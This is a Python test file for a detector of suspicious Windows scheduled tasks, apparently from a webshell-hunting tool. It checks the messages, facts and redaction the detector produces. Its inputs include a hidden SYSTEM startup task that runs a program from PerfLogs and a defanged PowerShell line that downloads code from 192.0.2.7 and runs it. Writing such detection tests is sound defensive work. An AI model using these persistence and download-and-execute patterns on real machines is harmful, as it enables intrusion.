"""Claims about the task of a file: its evidence, its facts, and its message."""

from __future__ import annotations

from tests.builders.tasks import task_file
from webshellhunt.model.findings import Finding
from webshellhunt.model.rules import Severity
from webshellhunt.pipeline import examine

PATH = r"C:\Windows\System32\Tasks\Updater"


def found(data: bytes, path: str = PATH) -> list[Finding]:
    return [each for each in examine(data, path=path).findings if each.rule.id in ("WSH4018", "WSH4080")]


def test_the_message_says_when_and_as_whom() -> None:
    (finding,) = found(task_file(r"C:\PerfLogs\a.exe", "-p s3cret", settings="<Hidden>true</Hidden>"))
    assert finding.message == (
        r"it runs C:\PerfLogs\a.exe (PerfLogs, where no program belongs), at each start of Windows, as SYSTEM"
    )
    assert finding.facts == {
        "command": r"C:\PerfLogs\a.exe", "runs": "at each start of Windows", "account": "SYSTEM", "hidden": True,
    }  # fmt: skip
    assert finding.evidence[0].line == 6


def test_a_command_is_shown_with_its_program_and_its_address() -> None:
    source = "ht·tps://u:s3cret@192.0.2.7/x?key=s3cret"
    (finding,) = found(task_file("powershell.exe", f"-c i·ex (i·wr '{source}')"))
    assert finding.message.startswith(
        "it runs downloaded or decoded text as code with powershell.exe, from https" + "://192.0.2.7/x, at each start"
    )
    assert finding.facts["address"] == "https" + "://192.0.2.7/x"
    assert "s3cret" not in str(finding.facts)


def test_a_class_is_shown_where_it_is() -> None:
    (finding,) = found(task_file(class_id="{5b1c9d2e-7a44-4f0b-9e21-0c3d5a6b7f80}"))
    assert finding.severity is Severity.MEDIUM
    assert "ClassId" in finding.evidence[0].excerpt


def test_the_same_file_elsewhere_is_no_task() -> None:
    assert found(task_file(r"C:\PerfLogs\a.exe"), r"C:\inetpub\wwwroot\a.xml") == []
